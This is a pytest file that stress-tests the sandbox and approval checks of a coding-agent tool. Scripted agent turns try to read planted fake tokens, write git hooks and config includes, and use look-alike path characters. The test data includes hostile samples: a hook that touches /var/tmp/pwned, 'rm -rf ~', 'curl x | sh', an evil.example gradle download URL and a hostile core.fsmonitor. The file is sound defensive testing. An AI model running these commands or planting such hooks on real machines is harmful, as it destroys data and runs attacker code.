"""Issue 41, holes 1-4, 8 and 9: the defences were lists of known dangers, and each hole was the next item
nobody listed. The defaults changed instead: the home folder is empty but for its toolchains, git's
credentials are what git means by one, what git runs is read from git's config, an unlisted dotfile is a
tool's settings, and punctuation that draws like a path's is escaped.

Real sessions (replayed model, real git, real bubblewrap) with a fake HOME outside /tmp (the sandbox's own
/tmp is private, so a home under it would prove nothing); outcomes checked in what the model got, in the
transcript and on disk. Each test also checks that what it hides or refuses is really there.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import git, xml_call
from tests.safety.cli import ROOT, ribbit_cli, write_replay
from tests.safety.helpers import tool_outputs
from tests.safety.sandbox_helpers import ScriptedApprover, everything_the_model_got, host_folder, session

MARK = "RBT41TOKEN"
LATER_PREFIX = "changed files that run code on your machine later: "


def token(n: int) -> str:
    return f"{MARK}{n:02d}z"


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A fake HOME outside /tmp (the sandbox shows it, as a real home would be), with XDG unset."""
    with host_folder("ribbit-home41-") as folder:
        monkeypatch.setenv("HOME", str(folder))
        for name in ("XDG_CONFIG_HOME", "XDG_CACHE_HOME", "XDG_DATA_HOME"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        yield folder


def plant(path: Path, text: str, mode: int = 0o600) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path


def named_later(stderr: str) -> list[str]:
    lines = [line for line in stderr.splitlines() if LATER_PREFIX in line]
    assert len(lines) == 1, stderr[-3000:]
    return [item.split(" (", 1)[0] for item in lines[0].split(LATER_PREFIX, 1)[1].split("; ")]


# -- hole 1: a proxy's password, without a scheme ---------------------------------------------------------


def test_a_password_in_a_proxy_url_without_a_scheme_never_reaches_the_model(repo: Path, home: Path, tmp_path: Path) -> None:
    git(repo, "config", "http.proxy", f"alice:{token(1)}@proxy.example:3128")
    git(repo, "config", "remote.origin.url", "https://example.com/r.git")
    git(repo, "config", "remote.origin.proxy", f"{token(2)}@proxy.example:8080")
    git(repo, "config", "http.https://example.com/.proxy", f"socks5h://bob:{token(3)}@socks.example:1080")
    git(repo, "config", "remote.mirror.url", f"carol:{token(4)}@example.com:r.git")  # scp-like, with a password
    git(repo, "config", "http.extraHeader", f"X-Api-Key: {token(5)}")
    cookies = plant(home.parent / f"{home.name}-cookies.txt", f"example.com\tFALSE\t/\tTRUE\t0\tsession\t{token(6)}\n")
    git(repo, "config", "http.cookieFile", str(cookies))
    # An included file's proxy (git reads it; so does the masking)
    plant(repo / ".git" / "proxy.inc", f"[http]\n\tproxy = dave:{token(7)}@proxy.example:3128\n")
    git(repo, "config", "include.path", "proxy.inc")
    config_text = (repo / ".git" / "config").read_text()
    assert all(token(n) in config_text for n in (1, 2, 3, 4, 5)) and token(6) in cookies.read_text()
    try:
        # ask mode, every question answered no: `cat` and `git log` are allow-listed and run unasked
        commands = ["cat .git/config .git/proxy.inc", f"cat {cookies}", "git log -1 --format=%s"]
        workspace, recorder, approver = session(repo, tmp_path, *[xml_call("Bash", command=c) for c in commands], "done",
                                                mode="ask", approver=ScriptedApprover())
        got = everything_the_model_got(workspace, recorder)
        assert approver.requests == []
        cat_config, cat_cookies, log = tool_outputs(recorder)
        assert "proxy = ***@proxy.example:3128" in cat_config and "proxy = ***@proxy.example:8080" in cat_config
        assert "socks5h://***@socks.example:1080" in cat_config and "url = ***@example.com:r.git" in cat_config
        assert "extraheader = X-Api-Key: ***" in cat_config and "dave" not in cat_config
        assert "session" not in cat_cookies and log.strip().endswith("init")
        # plan mode: `git config --list` runs (read-only) with no question
        workspace, recorder, _ = session(repo, tmp_path, xml_call("Bash", command="git config --list --show-origin"), "done",
                                         mode="plan")
        got += everything_the_model_got(workspace, recorder)
        listing = tool_outputs(recorder)[0]
        assert "http.proxy=***@proxy.example:3128" in listing and "remote.origin.proxy=***@proxy.example:8080" in listing
        assert MARK not in got, got[max(0, got.find(MARK) - 300):got.find(MARK) + 100]
        assert token(1) in (repo / ".git" / "config").read_text()  # a view: the file itself is unchanged
    finally:
        cookies.unlink()


# -- hole 2: credential files in the home folder nobody listed -------------------------------------------


TOKEN_FILES = {
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: {T}\n",
    ".npmrc": "//registry.npmjs.org/:_authToken={T}\n",
    ".cache/huggingface/token": "{T}\n",
    ".config/some-new-cli/credentials.json": '{{"token": "{T}"}}\n',  # a tool nobody has heard of
    ".gitcookies": ".googlesource.com\tTRUE\t/\tTRUE\t0\to\t{T}\n",  # named by the user's http.cookieFile
    ".cargo/credentials.toml": '[registry]\ntoken = "{T}"\n',  # inside a toolchain folder that is shown
    ".local/share/uv/credentials/credentials.toml": 'password = "{T}"\n',
    ".terraformrc": 'credentials "app.terraform.io" {{ token = "{T}" }}\n',
    "projects/other-client/.env": "API_KEY={T}\n",
}


@pytest.mark.parametrize("mode", ["ask", "plan"])
def test_home_token_files_are_unreadable_by_allow_listed_reads_and_toolchains_still_run(
    repo: Path, home: Path, tmp_path: Path, mode: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    for n, (rel, text) in enumerate(TOKEN_FILES.items()):
        plant(home / rel, text.format(T=token(n)))
    plant(home / ".gitconfig", "[user]\n\tname = Home User\n[http]\n\tcookieFile = ~/.gitcookies\n", 0o644)
    # Toolchains: a per-user program on PATH, cargo's bin, a Python package installed with --user
    plant(home / ".local" / "bin" / "mytool", "#!/bin/sh\necho mytool-ran\n", 0o755)
    plant(home / ".cargo" / "bin" / "cargo-x", "#!/bin/sh\necho cargo-x-ran\n", 0o755)
    site = home / ".local" / "lib" / f"python{sys.version_info.major}.{sys.version_info.minor}" / "site-packages"
    plant(site / "userpkg.py", "WHO = 'userpkg-imported'\n", 0o644)
    monkeypatch.setenv("PATH", f"{home / '.local' / 'bin'}{os.pathsep}{home / '.cargo' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    reads = [f"cat ~/{rel}" for rel in TOKEN_FILES] + [f"grep -rl {MARK} ~", "ls -a ~", "cat ~/.gitconfig"]
    runs = ["mytool", "cargo-x", "python3 -c 'import userpkg; print(userpkg.WHO)'"] if mode == "plan" else []
    turns = [xml_call("Bash", command=c) for c in [*reads, *runs]]
    workspace, recorder, approver = session(repo, tmp_path, *turns, "done", mode=mode, approver=ScriptedApprover())
    got = everything_the_model_got(workspace, recorder)
    assert MARK not in got, got[max(0, got.find(MARK) - 300):got.find(MARK) + 100]
    assert approver.requests == []  # every read ran, unasked
    outputs = tool_outputs(recorder)
    for rel, output in zip(TOKEN_FILES, outputs):
        assert "No such file" in output, (rel, output)
    listing = outputs[len(TOKEN_FILES) + 1]
    assert ".gitconfig" in listing and ".local" in listing and "projects" not in listing and ".npmrc" not in listing
    assert "name = Home User" in outputs[len(TOKEN_FILES) + 2]  # git's settings are shown (masked copies)
    if mode == "plan":
        assert [o.strip() for o in outputs[-3:]] == ["mytool-ran", "cargo-x-ran", "userpkg-imported"], outputs[-3:]
    for n, rel in enumerate(TOKEN_FILES):  # they were there all along
        assert token(n) in (home / rel).read_text()


def test_expose_shows_more_of_the_home_and_the_default_is_empty(repo: Path, home: Path, tmp_path: Path) -> None:
    plant(home / "notes" / "todo.txt", "remember the milk\n", 0o644)
    plant(home / ".config" / "ribbit" / "sandbox.toml", 'expose = ["~/notes"]\n', 0o644)
    workspace, recorder, _ = session(repo, tmp_path, xml_call("Bash", command="cat ~/notes/todo.txt"), "done",
                                     mode="plan")
    assert "remember the milk" in tool_outputs(recorder)[0]


# -- hole 3: what git runs, from the repository's own config ---------------------------------------------


def test_a_hook_under_core_hooks_path_and_a_config_include_target_are_asked_for_and_named(
    repo: Path, home: Path, tmp_path: Path,
) -> None:
    git(repo, "config", "core.hooksPath", ".husky/_")  # how husky works: a tracked folder
    git(repo, "config", "include.path", "../.gitconfig")  # a work-tree file read as config
    git(repo, "config", "filter.lfsish.clean", "tools/clean.sh %f")
    hook = "#!/bin/sh\ntouch /var/tmp/pwned\n"
    turns = [
        xml_call("Write", file_path=".husky/_/pre-commit", content=hook),
        xml_call("Write", file_path=".gitconfig", content="[core]\n\tfsmonitor = tools/monitor.sh\n"),
        xml_call("Write", file_path="tools/clean.sh", content="#!/bin/sh\ncat\n"),
        xml_call("Write", file_path="notes.txt", content="plain\n"),
        xml_call("Bash", command="mkdir -p .husky/_ && printf '#!/bin/sh\\n' > .husky/_/post-checkout"),
        "done",
    ]
    run = ribbit_cli(tmp_path, repo, write_replay(tmp_path / "r.jsonl", *turns), "--mode", "auto-edit",
                     stdin=b"y\ny\ny\ny\n")
    run.assert_clean_exit()
    out = (run.stdout + run.stderr).decode()
    questions = [q.split("\n", 1)[0] for q in out.split("\n? ")[1:]]
    assert any(q.startswith("Write .husky/_/pre-commit  (runs code on your machine later: git hooks (core.hooksPath") for q in questions), out[-3000:]
    assert any(q.startswith("Write .gitconfig  (runs code on your machine later: git config included") for q in questions), out[-3000:]
    assert any(q.startswith("Write tools/clean.sh  (runs code on your machine later: a program git runs (filter.lfsish.clean)") for q in questions)
    assert not any("notes.txt" in q for q in questions)  # a plain file in auto-edit: no question
    assert (repo / ".husky" / "_" / "pre-commit").read_text() == hook and (repo / "notes.txt").exists()
    named = named_later(run.err)
    assert {".husky/_/pre-commit", ".husky/_/post-checkout", ".gitconfig", "tools/clean.sh"} <= set(named), named
    assert "notes.txt" not in named


# -- hole 4: `ribbit quantize --calibrate DIR` in a hostile folder ---------------------------------------


def test_calibrating_on_a_hostile_folder_runs_nothing_it_names(tmp_path: Path, home: Path) -> None:
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    git(hostile, "init", "-q", "-b", "main")
    marker = tmp_path / "fsmonitor-ran"
    monitor = plant(hostile / "monitor.sh", f"#!/bin/sh\ntouch {marker}\n", 0o755)
    (hostile / "code.py").write_text("def f():\n    return 1\n" * 20)
    git(hostile, "add", "code.py")
    git(hostile, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "code")
    for key, value in [("core.fsmonitor", str(monitor)), ("core.hooksPath", str(hostile)), ("core.pager", str(monitor))]:
        git(hostile, "config", key, value)
    src = tmp_path / "not-a-checkpoint"
    src.mkdir()
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    run = subprocess.run([sys.executable, "-m", "app.cli", "quantize", str(src), "-o", str(tmp_path / "m.gguf"),
                          "--type", "Q4_K_M", "--calibrate", str(hostile)], capture_output=True, text=True, cwd=ROOT,
                         env=env, timeout=300)
    assert "Traceback" not in run.stderr
    assert not marker.exists(), "calibration ran the folder's core.fsmonitor"
    # The trap is real: the user's own `git status` there runs it.
    subprocess.run(["git", "status", "--short"], cwd=hostile, capture_output=True, check=True)
    assert marker.exists()


FORBIDDEN_CALLS = {"run", "Popen", "call", "check_call", "check_output", "system", "popen", "execv", "execvp",
                   "execvpe", "execve", "execl", "execlp", "spawnv", "spawnvp", "spawnl", "spawnlp", "getoutput",
                   "getstatusoutput", "create_subprocess_exec", "create_subprocess_shell", "which"}


def test_no_module_but_agent_git_starts_git() -> None:
    """Every git ribbit starts goes through agent/git.py (calibration included): a call that starts a
    process (or finds a program) with a literal `git` anywhere in its arguments, elsewhere, fails this."""
    import ast

    offenders = []
    for package in ("agent", "app", "models", "quantize"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if path == ROOT / "agent" / "git.py":
                continue
            tree = ast.parse(path.read_text(), filename=str(path))
            for node in ast.walk(tree):
                if not isinstance(node, ast.Call):
                    continue
                name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
                if name not in FORBIDDEN_CALLS:
                    continue
                words = [c.value for arg in [*node.args, *(k.value for k in node.keywords)] for c in ast.walk(arg)
                         if isinstance(c, ast.Constant) and isinstance(c.value, str)]
                if any(w == "git" or w.startswith("git ") or w.endswith("/git") for w in words):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
    # and the scan does find one: the pattern calibration used before issue 41
    sample = ast.parse('subprocess.run(["git", "-C", d, "ls-files"])')
    call = next(n for n in ast.walk(sample) if isinstance(n, ast.Call))
    assert isinstance(call.func, ast.Attribute) and call.func.attr in FORBIDDEN_CALLS


# -- hole 8: kinds of files that run later, listed and unlisted -------------------------------------------


RUNS_LATER_WRITES = {
    ".yarn/plugins/plugin-evil.cjs": "module.exports = {}\n",
    ".yarn/releases/yarn-4.0.0.cjs": "require('child_process')\n",
    "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://evil.example/gradle.zip\n",
    ".mvn/jvm.config": "-javaagent:evil.jar\n",
    ".vscode/launch.json": "{}\n",
    ".devcontainer/devcontainer.json": "{}\n",
    ".pythonrc": "import os\n",
    "mypy.ini": "[mypy]\nplugins = evil\n",
    ".coveragerc": "[run]\nplugins = evil\n",
    "jest.config.json": "{}\n",
    ".tool-versions": "python 3.12.0\n",
    "go.work": "go 1.22\n",
    # nobody listed these: the rule for dotfiles takes them
    ".newtoolrc": "hook = rm -rf ~\n",
    ".config/newtool/settings.toml": "on_start = 'curl x | sh'\n",
}
PLAIN_WRITES = {"src/app.py": "x = 1\n", ".github/ISSUE_TEMPLATE/bug.md": "# bug\n", ".editorconfig": "root = true\n"}


def test_unlisted_kinds_that_run_later_are_asked_for_in_auto_edit_and_named(repo: Path, home: Path, tmp_path: Path) -> None:
    writes = {**RUNS_LATER_WRITES, **PLAIN_WRITES}
    turns = [xml_call("Write", file_path=path, content=text) for path, text in writes.items()] + ["done"]
    run = ribbit_cli(tmp_path, repo, write_replay(tmp_path / "r.jsonl", *turns), "--mode", "auto-edit",
                     stdin=b"y\n" * len(RUNS_LATER_WRITES))
    run.assert_clean_exit()
    out = (run.stdout + run.stderr).decode()
    asked = [q.split("\n", 1)[0].removeprefix("Write ").split("  (")[0] for q in out.split("\n? ")[1:]]
    assert sorted(asked) == sorted(RUNS_LATER_WRITES), out[-3000:]
    assert all((repo / p).read_text() == t for p, t in writes.items())
    assert sorted(named_later(run.err)) == sorted(RUNS_LATER_WRITES)


# -- hole 9: punctuation that draws like a path's -------------------------------------------------------


def test_look_alike_punctuation_in_a_path_is_escaped_in_the_approval(repo: Path, home: Path, tmp_path: Path) -> None:
    names = {"calc.py\u2024py": "calc.py\\u2024py", "src\u2215evil.py": "src\\u2215evil.py",
             "lib\u2044x.py": "lib\\u2044x.py", "c\uff1a\u29f9tmp.py": "c\\uff1a\\u29f9tmp.py"}
    turns = [xml_call("Write", file_path=name, content="print('hi')\n") for name in names] + [
        xml_call("Bash", command="cat calc.py\u2024py"), "done"]
    run = ribbit_cli(tmp_path, repo, write_replay(tmp_path / "r.jsonl", *turns), "--mode", "ask",
                     stdin=b"n\n" * (len(names) + 1))
    run.assert_clean_exit()
    err = run.err
    for raw, shown in names.items():
        assert f"Write {shown}" in err, err[-3000:]
        assert raw not in err
    assert "cat calc.py\\u2024py" in err
    assert not any("\u2024" in line or "\u2215" in line for line in err.splitlines())
    assert sorted(p.name for p in repo.iterdir() if not p.name.startswith(".")) == ["calc.py", "test_calc.py"]  # all refused


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.mark.anyio
async def test_look_alike_punctuation_is_escaped_in_the_tui_review_and_diff(repo: Path, home: Path, replay_file) -> None:  # type: ignore[no-untyped-def]
    from app.app import make_app
    from app.screens.review import EditReviewScreen
    from app.screens.session_diff import SessionDiffScreen
    from tests.safety.test_invisible_characters import screen_text
    from tests.tui.conftest import SIZE, idle, ready, send, wait_for

    name = "calc.py\u2024py"
    replay = replay_file(xml_call("Write", file_path=name, content="x = 1\n"), "Done.")
    app = make_app(repo, f"replay:{replay}", mode="ask")
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        await send(pilot, "go")
        await wait_for(pilot, lambda: isinstance(app.screen, EditReviewScreen), what="write review")
        await pilot.pause(0.1)
        shot = screen_text(app)
        assert "calc.py\\u2024py" in shot and name not in shot
        await pilot.press("y")
        await idle(pilot)
        await send(pilot, "/diff")
        await wait_for(pilot, lambda: isinstance(app.screen, SessionDiffScreen), what="/diff")
        await pilot.pause(0.1)
        shot = screen_text(app)
        assert "calc.py\\u2024py" in shot and name not in shot
    assert (repo / name).read_text() == "x = 1\n"  # approved: written under its exact name
